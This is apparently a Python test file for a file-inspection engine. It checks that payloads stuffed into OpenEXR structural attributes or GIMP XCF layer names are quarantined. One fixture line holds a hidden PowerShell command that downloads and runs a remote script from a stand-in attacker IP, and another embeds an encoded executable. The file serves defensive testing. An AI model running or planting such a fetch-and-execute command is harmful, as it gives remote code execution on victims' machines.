"""OpenEXR structural attributes and GIMP XCF names and properties are judged
(agent/inspect/exr.py, agent/inspect/xcf.py).

OpenEXR ("Technical Introduction"): an attribute is `name\\0 type\\0 size value`; a
structural type has a fixed size (int 4, box2i 16...), so a longer value carries bytes no
reader uses, and a channel list is names. XCF (GIMP devel-docs/xcf.txt): layer and channel
names are free text of up to any length, and a property's payload may be long (colour map,
paths) or of a type GIMP does not know.
"""

from __future__ import annotations

import base64
import random
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from bench import walker_files as wf
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}


def _attribute(name: bytes, type_name: bytes, value: bytes) -> bytes:
    return name + b"\x00" + type_name + b"\x00" + struct.pack("<i", len(value)) + value


def _verdict(name: str, data: bytes) -> str:
    return inspect_bytes(name, data).verdict.value


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("type_name", [b"int", b"box2i", b"v2f", b"chlist"], ids=bytes.decode)
def test_a_payload_in_a_structural_exr_attribute_is_quarantined(
    type_name: bytes, kind: str
) -> None:
    attributes = _attribute(b"renderPass", type_name, struct.pack("<i", 1) + PAYLOADS[kind])
    exr_file = wf.exr_bytes(random.Random(3), attributes=attributes)
    assert _verdict("render.exr", exr_file) == "quarantine"


def test_structural_exr_attributes_of_their_own_size_stay_clean() -> None:
    attributes = _attribute(b"renderPass", b"int", struct.pack("<i", 7))
    attributes += _attribute(b"offset", b"v2f", struct.pack("<ff", 0.5, 0.25))
    assert _verdict("render.exr", wf.exr_bytes(random.Random(4), attributes=attributes)) == "clean"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_an_xcf_layer_name_is_quarantined(kind: str) -> None:
    xcf = wf.xcf_bytes(random.Random(5), layer_name=PAYLOADS[kind])
    assert _verdict("logo.xcf", xcf) == "quarantine"


def test_an_ordinary_xcf_layer_name_stays_clean() -> None:
    assert _verdict("logo.xcf", wf.xcf_bytes(random.Random(6), layer_name=b"Layer 2 copy")) == (
        "clean"
    )
